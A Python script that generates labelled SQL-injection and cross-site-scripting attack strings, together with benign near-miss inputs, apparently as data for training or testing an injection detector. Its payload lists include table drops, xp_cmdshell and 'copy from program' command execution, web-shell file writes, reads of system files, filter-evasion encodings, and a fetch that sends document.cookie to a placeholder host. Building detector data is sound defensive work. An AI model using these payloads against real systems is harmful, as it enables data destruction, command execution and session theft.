#!/usr/bin/env python3
"""Writes the labelled inputs for SQL and markup, the same bytes each time.

Attacks are put together by grammar: the place that the input breaks out of, what it does there, how it ends
there, and how it is dressed up. Ordinary inputs are near misses: the same words and signs in sentences,
measures, programs and markup that runs nothing.
"""

import itertools
import pathlib
import random
import urllib.parse

HERE = pathlib.Path(__file__).resolve().parent
MADE = "# Written by generate_sql_and_markup.py."


def escaped(value):
    """The value as it stands in a file."""
    data = value.encode() if isinstance(value, str) else value
    signs = {0: "\\0", 9: "\\t", 10: "\\n", 13: "\\r", 92: "\\\\"}
    try:
        text = data.decode()
        return "".join(
            signs.get(ord(c)) or (f"\\x{ord(c):02x}" if ord(c) < 32 or ord(c) == 127 else c) for c in text
        )
    except UnicodeDecodeError:
        return "".join(signs.get(c) or (chr(c) if 32 <= c < 127 else f"\\x{c:02x}") for c in data)


SEEN = set()


def write(label, kind, name, values):
    lines = []
    for value in values:
        line = escaped(value)
        if line.strip() and line not in SEEN:
            SEEN.add(line)
            lines.append(f"{label}\t{kind}\t{line}\n")
    folder = HERE / label
    folder.mkdir(exist_ok=True)
    (folder / f"{name}.txt").write_text(MADE + "\n" + "".join(lines))
    print(label, name, len(lines))


# --------------------------------------------------------------------------------------------------- SQL

# What stands in front of the break-out, the break-out itself, and what puts the query together again.
PLACES = [
    ("1", "", ""),
    ("-1", "", ""),
    ("7", ")", " and (3=3"),
    ("7", "))", " and ((3=3"),
    ("x", "'", " and 'q'='q"),
    ("", "'", " and ''='"),
    ("anna", "')", " and ('q'='q"),
    ("anna", "'))", " and (('q'='q"),
    ("x", '"', ' and "q"="q'),
    ("anna", '")', ' and ("q"="q'),
    ("wool%", "'", " and 'w%'='w"),
]

# What an input does after AND or OR.
CONDITIONS = [
    "4=4",
    "4=5",
    "2>1",
    "'k'='k'",
    "'k' like 'k'",
    "3 in (3)",
    "5 between 2 and 8",
    "not 3=4",
    "0x41=0x41",
    "(select 1)=1",
    "exists(select * from users)",
    "length(database())>3",
    "ascii(substring((select pass from users limit 1),1,1))>77",
    "(select count(*) from information_schema.tables)>0",
    "sleep(4)",
    "benchmark(3000000,sha1(1))",
    "extractvalue(1,concat(0x7e,version()))",
    "updatexml(1,concat(0x7e,user()),1)",
    "(select 9 from pg_sleep(4))=9",
    "9=cast((select version()) as int)",
    "1=convert(int,@@version)",
    "1=(select 1 from dual where dbms_pipe.receive_message('q',4)=1)",
    "1=utl_inaddr.get_host_address('q')",
    "(case when 3=3 then 1 else 0 end)=1",
    "if(2=2,sleep(3),0)",
    "iif(2=2,1,0)=1",
    "like('ABC',upper(hex(randomblob(90000000))))",
    "row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)",
]

SETS = [
    "union select 1",
    "union select null,null,null",
    "union all select 1,2,version()",
    "union distinct select user,password from mysql.user",
    "union all select name,sql from sqlite_master",
    "union select table_name,null from information_schema.tables",
    "union select banner,null from v$version",
    "union all select usename,passwd from pg_shadow",
    "union select name,null from master..sysdatabases",
    "union(select 1,(select group_concat(a) from b))",
    "union values row(1,2)",
    "intersect select 1 from users",
    "except select 1,2 from users",
]

CLAUSES = [
    "order by 9",
    "group by 1 having 2=2",
    "having 5=5",
    "limit 1,1 union select 2",
    "into outfile '/var/www/q.php'",
    "procedure analyse(extractvalue(1,concat(0x3a,version())),1)",
]

STATEMENTS = [
    "drop table users",
    "drop database shop",
    "truncate table orders",
    "delete from users where 1=1",
    "update users set role='admin' where name='anna'",
    "insert into users(name,role) values('q','admin')",
    "select pg_sleep(4)",
    "waitfor delay '0:0:4'",
    "exec master..xp_cmdshell 'dir'",
    "exec xp_dirtree '//127.0.0.1/q'",
    "declare @q varchar(99) set @q=0x77 exec(@q)",
    "create user q identified by 'q'",
    "copy t from program 'id'",
    "attach database '/tmp.db' as q",
    "begin dbms_lock.sleep(4); end",
    "shutdown",
    "call sys_exec('id')",
    "alter table users add q int",
    "load data infile '/etc/hosts' into table t",
    "grant all on users to q",
]

ENDS = ["-- -", "#", "/*", "--+", "-- q"]


def spaces_as(filler):
    return lambda text: text.split("-- ")[0].rstrip().replace(" ", filler) + ("-- -" if "-- " in text else "")


def mixed_case(text):
    return "".join(c.upper() if index % 2 else c for index, c in enumerate(text))


DRESSES = [
    spaces_as("/**/"),
    spaces_as("\n"),
    spaces_as("\t"),
    spaces_as("\u00a0"),
    spaces_as("+"),
    mixed_case,
    lambda text: urllib.parse.quote(text, safe=""),
    lambda text: urllib.parse.quote(urllib.parse.quote(text, safe=""), safe=""),
    lambda text: text.replace("union", "/*!50000union*/").replace("select", "/*!select*/"),
    lambda text: "".join(f"%u{ord(c):04x}" for c in text),
    lambda text: "".join(f"&#{ord(c)};" for c in text),
    lambda text: text.replace("'", "\uff07").replace('"', "\uff02"),
]


def sql_attacks():
    rng = random.Random(41)
    made = []
    for place, word, condition in itertools.product(PLACES, ["and", "or"], CONDITIONS):
        front, out, back = place
        ends = [back, ENDS[rng.randrange(len(ENDS))]]
        made.append(f"{front}{out} {word} {condition}{' ' if out else ''}{rng.choice(ends)}")
    for (front, out, back), act in itertools.product(PLACES, SETS):
        made.append(f"{front}{out} {act}{rng.choice(['', back, ' -- -', '#']) if not out else ' ' + rng.choice(ENDS)}")
    for (front, out, back), act in itertools.product(PLACES, CLAUSES):
        made.append(f"{front}{out} {act}{'' if not out else ' ' + rng.choice(ENDS)}")
    for (front, out, back), act in itertools.product(PLACES, STATEMENTS):
        made.append(f"{front}{out};{act}{rng.choice([';', '']) if not out else rng.choice(['--', '-- -', ';--'])}")
    plain = rng.sample(made, 620)
    dressed = [rng.choice(DRESSES)(text) for text in rng.sample(made, 420)]
    short = [
        "1 or 1", "1#", "1 or true", "'-'", "'+'", "'^'", "'&'", "'|'", "'||'", "'='", "'%'", "'<'", "'!='", '"-"', '"||"',
        "' or ''='", "' or 1-- -", "'or'1'='1", "' or 'q' like 'q", "'=0#", "' or true#", "' or not false-- -",
        "anna'-- -", "anna'#", "anna'/*", "anna')-- -", 'anna"#', "1)-- -", "1;-- -", "1-- -", "1/*", "a'||'b", "a'+'b",
        "or 6=6", "and 6=7", "or 'z'='z'", "or 6=6-- -", "having 6=6", "order by 6-- -", "union select 6,7,8",
        "; drop table users", ";waitfor delay '0:0:3'", "') or ('z'='z", "sleep(9)", "pg_sleep(9)", "benchmark(9000000,md5(9))",
        "(select sleep(9))", "(select * from (select(sleep(9)))q)", "if(6=6,sleep(9),1)", "(case when 6=6 then 1 else 2 end)",
        "name;drop table users", "name,(select pass from users limit 1)", "name desc,(select 1 from users)", "id or 6=6",
        "id and 6=(select 6)", "1 and(6)=(6)", "1||6=6", "1&&6=6", "1 xor 6=7", "1 rlike(6)or 6=6", "1 div 6 or 6=6",
        "{d 6} or 6=6", "1e0union select 6", "1.union select 6", "6Dunion select 6", "\\' or 6=6-- -", "\\N or 6=6",
        "@@version or 6=6", "q'||(select user from dual)||'", "q'+(select @@version)+'", "q',(select version()),'",
        "q','admin')-- -", "q`; drop table users-- -", "q` union select 6-- -", "q]; drop table users-- -",
        "q*/ union select 6/*", "q' and sleep(6) and 'q'='q", "q';select sleep(6)#", "q' in boolean mode) or 6=6#",
        "q' waitfor delay '0:0:6", "q' procedure analyse()#", "q' into dumpfile '/q.so'#", "q' or q=q#",
        "6 or 6 like 6", "6 or 6<=>6", "6 or 6 regexp 6", "6 or binary 6=6", "6 or ~6=6 or 6=6", "6 or !(6=7)",
        "select load_file('/etc/hosts')", "select @@datadir", "select * from information_schema.tables",
        "declare @q int;exec(@q)", "exec xp_cmdshell 'id'", "drop table users;", "/*!50000union*/ select 6,7",
        "1 uni/**/on sel/**/ect 6,7", "q'/**/or/**/6=6#", "q'%0aor%0a6=6#", "q'\x0bor\x0b6=6#", "1\x00or 6=6",
    ]
    return plain + dressed + short


WORDS = ["select", "union", "or", "and", "drop", "table", "where", "from", "having", "order", "group", "insert", "delete",
         "update", "create", "exec", "like", "not", "null", "join", "limit", "into", "values", "if", "case", "set"]
NOUNS = ["plan", "table", "river", "list", "garden", "union", "order", "view", "index", "key", "record", "user", "date",
         "price", "colour", "book", "room", "ticket", "letter", "engine"]
NAMES = ["O'Hara", "D'Amico", "L'Estrange", "N'Dour", "M'Gregor", "O'Sullivan", "D'Arcy", "van 't Hoff", "Ka'ahumanu"]


def near_sql():
    rng = random.Random(43)
    pick = rng.choice
    made = []
    for _ in range(220):
        a, b, c = rng.sample(NOUNS, 3)
        made += [
            f"Please select a {a} from the {b} and send the {c} by Friday",
            f"the {a}'s {b} or the {c}'s",
            f"it's the {a} or it isn't; either way, update the {b}",
            f"\"{a}\" or \"{b}\", whichever comes first",
            f"use '{pick(WORDS)}' in front of the {a} - never '{pick(WORDS)}'",
            f"{a} where {b} is from -- and why",
            f"{rng.randrange(2, 90)} or {rng.randrange(2, 90)} {a}s",
            f"{a}: {rng.randrange(2, 60)}\" x {rng.randrange(2, 60)}\" or {rng.randrange(2, 60)}' long",
            f"{pick(NAMES)} and {pick(NAMES)} union of the {a}",
            f"drop {a} at the {b}; insert {c}",
            f"({a} or {b}) and ({c})",
            f"We group by {a}, order by {b} and limit the {c} -- see below",
            f"case {rng.randrange(2, 90)}: when the {a} is null",
            f"1. select {a} 2. delete {b} 3. create {c}",
            f"{a} = {b} or {a} = {c}",
            f"{a}#{rng.randrange(2, 999)}",
            f"the '{a}' and the '{b}'",
            f"{pick(NAMES)}'s {a} -- \"not null\" -- and {b}",
            f"like '{a}' but not like '{b}'",
            f"{rng.randrange(2, 99)}% {a} and {rng.randrange(2, 99)}% {b}",
        ]
    made += [f"'{word}'" for word in WORDS] + [f'the "{word}" key' for word in WORDS] + [f"`{word}` or `x`" for word in WORDS]
    made += [
        "rock 'n' roll or 'n' bass", "5 o'clock or so, 'tis said", "d'or et d'argent", "Palme d'or 1987", "l'or noir",
        "Coupe d'or (2)", "f'(x) = 2x or g'(x) = 3", "y'' - y' = 0", "x = 1 or x = -1", "a || b && c", "i = 0; i < n; i++",
        "SELECT a plan and update it", "Union Select committee of 1912", "Order by phone or in person",
        "C# or F# or VB", "grep -v '^#' file", "sed 's/--/-/g'", "echo '--help' | less", "ls -- '*.txt'", "a/* and */b",
        "1--2", "pp. 3 -- 9", "24\" - 27\"", "6'2\" or 6'3\"", "\"a\" + \"b\"", "' + name + '!", "x','y", "[\"a\",\"b\"]",
        "jusqu'à 5 ou 6", "¿'sí' o 'no'?", "「選択」または「更新」", "„oder“ und ‚und‘", "'или' и 'и'", "l'un ou l'autre",
    ]
    return made


# ------------------------------------------------------------------------------------------------ markup

CODES = ["alert(7)", "alert`7`", "confirm(7)", "prompt(7)", "eval(name)", "import('//q')", "fetch('//q?'+document.cookie)",
         "location='//q'", "top['al'+'ert'](7)", "(alert)(7)", "window.alert(7)", "document.write(7)", "new Function('x')()"]
EVENTS = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onpointerenter", "onanimationstart",
          "onscrollend", "onbeforetoggle", "oncontentvisibilityautostatechange", "onwheel", "onpaste", "onsomethingnew"]
TAGS = ["img src=q", "svg", "body", "video", "details open", "input autofocus", "marquee", "select", "a href=#", "div",
        "custom-tag", "math", "audio src", "button", "p"]
SEPARATORS = [" ", "\n", "\t", "\x0c", " q=q ", " q='q'", " \xff ", "/", "//", "/q=\"q\"/"]
ADDRESSES = ["javascript:alert(7)", "JaVaScRiPt:alert(7)", "java&Tab;script:alert(7)", "java\nscript:alert(7)",
             "&#106;avascript&colon;alert(7)", " \x01javascript:alert(7)", "vbscript:msgbox(7)", "javascript&#58;alert(7)",
             "data:text/html,<p>", "data:text/html;base64,PHA+", "javascript://%0aalert(7)"]


def markup_attacks():
    rng = random.Random(47)
    made = []
    for tag, event, separator in itertools.product(TAGS, EVENTS, SEPARATORS):
        # An unquoted value would take the slash in.
        if "=" in tag and separator.startswith("/"):
            separator = " "
        quote = rng.choice(["", '"', "'"])
        code = rng.choice(CODES)
        if quote and quote in code or not quote and ("(" not in code or " " in code):
            quote = '"'
        end = rng.choice([">", "", "/>", " q>", "//"])
        made.append(f"<{tag}{separator}{event}{rng.choice(['=', ' = '])}{quote}{code}{quote}{end}")
    handlers = rng.sample(made, 330)
    holders = ["<a href=\"{}\">q</a>", "<form action='{}'><button>", "<iframe src=\"{}\">", "<object data=\"{}\">",
               "<embed src=\"{}\">", "<button formaction='{}'>", "<svg><a xlink:href=\"{}\">q", "<math href=\"{}\">q",
               "<base href=\"{}\">", "<svg><animate attributeName=href values='{}' />", "<meta http-equiv=refresh content=\"0;url={}\">",
               "<body background=\"{}\">", "<link rel=stylesheet href='{}'>", "<table background='{}'>", "\" href=\"{}"]
    addresses = [holder.format(address) for holder, address in itertools.product(holders, ADDRESSES)]
    addresses = [text for text in addresses if not ("data:" in text and ("background" in text))]
    scripts = ["<script>{}</script>", "<ScRiPt src=//q>{}", "<script\n>{}</script\n>", "</title><script>{}</script>",
               "</textarea><script>{}</script>", "--><script>{}</script>", "\"><script>{}</script>", "'><script>{}</script>",
               "<<script>{}</script>", "<svg><script>{}</script>", "</script><script>{}</script>", "<x:script xmlns:x=q>{}</x:script>",
               "<script/q>{}</script>", "<noscript><p title=\"</noscript><script>{}</script>\">"]
    scripts = [holder.format(code) for holder, code in itertools.product(scripts, CODES)]
    attributes = [f"{front}{quote}{separator}{event}={wrap}{code}{wrap}{tail}"
                  for front, (quote, wrap), separator, event, code, tail in itertools.product(
                      ["", "anna"], [('"', "'"), ("'", '"')], [" ", "/", "\n"], EVENTS[:9],
                      ["alert(7)", "confirm(7)", "prompt(document.cookie)"], ["", " q="])]
    strings = [f"{front}{quote}{join}{code}{tail}"
               for front, quote, (join, tail), code in itertools.product(
                   ["", "anna"], ["'", '"'],
                   [("-", "-@"), ("+", "+@"), (";", "//"), (");", "//"), ("};", "/*"), ("*", "*@"), ("];", "//"), (",", ",@")],
                   ["alert(7)", "confirm(document.cookie)", "top['alert'](7)", "eval(atob('YQ'))", "prompt`7`"])]
    strings = [text.replace("@", "'" if "'" in text[:6] else '"') for text in strings]
    dresses = [
        lambda text: urllib.parse.quote(text, safe=""),
        lambda text: urllib.parse.quote(urllib.parse.quote(text, safe=""), safe=""),
        lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
        lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
        lambda text: text.replace("<", "&#60;").replace(">", "&#62;"),
        lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
        lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
        lambda text: text.replace("<", "%u003c").replace(">", "%u003e"),
        lambda text: text[0] + "\0" + text[1:],
        str.upper,
    ]
    dressed = [rng.choice(dresses)(text) for text in rng.sample(scripts + handlers, 150)]
    rest = ["javascript:alert(7)", "javascript:eval(name)//", "\tjavascript:alert(7)", "data:text/html,<script>alert(7)</script>",
            "<style>@import '//q'</style>", "<style>*{color:red}</style>", "<div style=\"width:expression(alert(7))\">",
            "<div style=\"-moz-binding:url(//q)\">", "<div style=\"background:url(javascript:alert(7))\">", "\" style=\"x:expression(alert(7))",
            "<iframe srcdoc=\"<b>q</b>\">", "<svg><use href=\"//q#q\"/>", "<svg><set attributeName=onclick to=alert(7)>", "<applet code=q>",
            "${alert(7)}", "`-alert(7)-`", "{{constructor.constructor('alert(7)')()}}", "alert(document.domain)", "<plaintext>",
            "[q](javascript:alert(7))", "next=javascript:alert(7)", "<?xml-stylesheet href=\"//q\"?>", "<img src=q onerror\n=\nalert(7)>",
            "<img \"\"\"><script>alert(7)</script>\">", "<embed code=//q>", "<portal src=//q>"]
    return handlers + addresses + rng.sample(scripts, 100) + rng.sample(attributes, 90) + rng.sample(strings, 80) + dressed + rest


def near_markup():
    rng = random.Random(53)
    pick = rng.choice
    types = ["Map", "List", "Vec", "Option", "Promise", "Result", "Set", "Box", "Future", "Array"]
    inner = ["String", "Integer", "Object", "T", "Script", "Style", "Form", "Link", "Base", "Frame"]
    inert = ["b", "i", "em", "strong", "p", "br", "u", "code", "pre", "h2", "li", "ul", "blockquote", "span", "small", "sub"]
    made = []
    for _ in range(130):
        a, b = rng.sample(NOUNS, 2)
        tag, event = pick(inert), pick(EVENTS[:9])
        made += [
            f"{pick(types)}<{pick(inner)}, {pick(types)}<{pick(inner)}>> {a}s = new {b}<>();",
            f"if ({a} < {b} && {b} > {rng.randrange(2, 99)}) return;",
            f"the <{tag}>{a}</{tag}> of the <{pick(inert)}>{b}",
            f"{a} <3 {b}, {rng.randrange(2, 9)} > 1",
            f"<{a}.{b}@example.org>",
            f"set {event} = {a}Handler on the {b}",
            f"the {event} event of a {a}, and \"{event}\" of the {b}",
            f"<a href=\"https://example.org/{a}?q={b}\">{a}</a>",
            f"<img src=\"/{a}/{b}.png\" alt=\"{a} > {b}\">",
            f"JavaScript: {a}s and {b}s for beginners",
            f"{a}('{b}'); {b}(\"{a}\")",
            f"<p class=\"{a}\" title='{b}'>{a} &lt;{b}&gt;</p>",
            f"const {a} = '{b}' + \"{a}\";",
            f"{{{{ {a}.{b} }}}} and ${{{a}}}",
            f"a script about a {a}, <- or -> a {b} <= {rng.randrange(2, 99)}",
            f"data: {a}/{b}, size={rng.randrange(2, 99)}",
            f"it's \"{a}\"=\"{b}\", isn't it (really)",
            f"<{a}-{b} color=\"red\" once>{a}</{a}-{b}>",
        ]
    made += [
        "&lt;script&gt; begins a script, &lt;/script&gt; ends it", "a<b>c", "<-- see there -->", "x<y>z", "<3<3<3", "(>_<)",
        "=> <= == <> !=", "<!-- a comment -->", "<br><br/>", "<hr>", "<table><tr><td>1</td></tr></table>", "1 < 2 > 0", "->*",
        "<$5 or >$9", "#include <stdio.h>", "std::map<int, std::vector<T>> m;", "<T extends Base>", "Foo<'a, T>", "cat < in > out",
        "data:image/gif;base64,R0lGODlhAQABAAAAACw=", "javascript: a primer", "on load = 3 kg", "one=1 only=2 once=3", "title=\"onload\"",
    ]
    return made


if __name__ == "__main__":
    write("attack", "sqli", "sqli", sql_attacks())
    write("attack", "xss", "xss", markup_attacks())
    write("ordinary", "near_sql", "near_sql", near_sql())
    write("ordinary", "near_markup", "near_markup", near_markup())
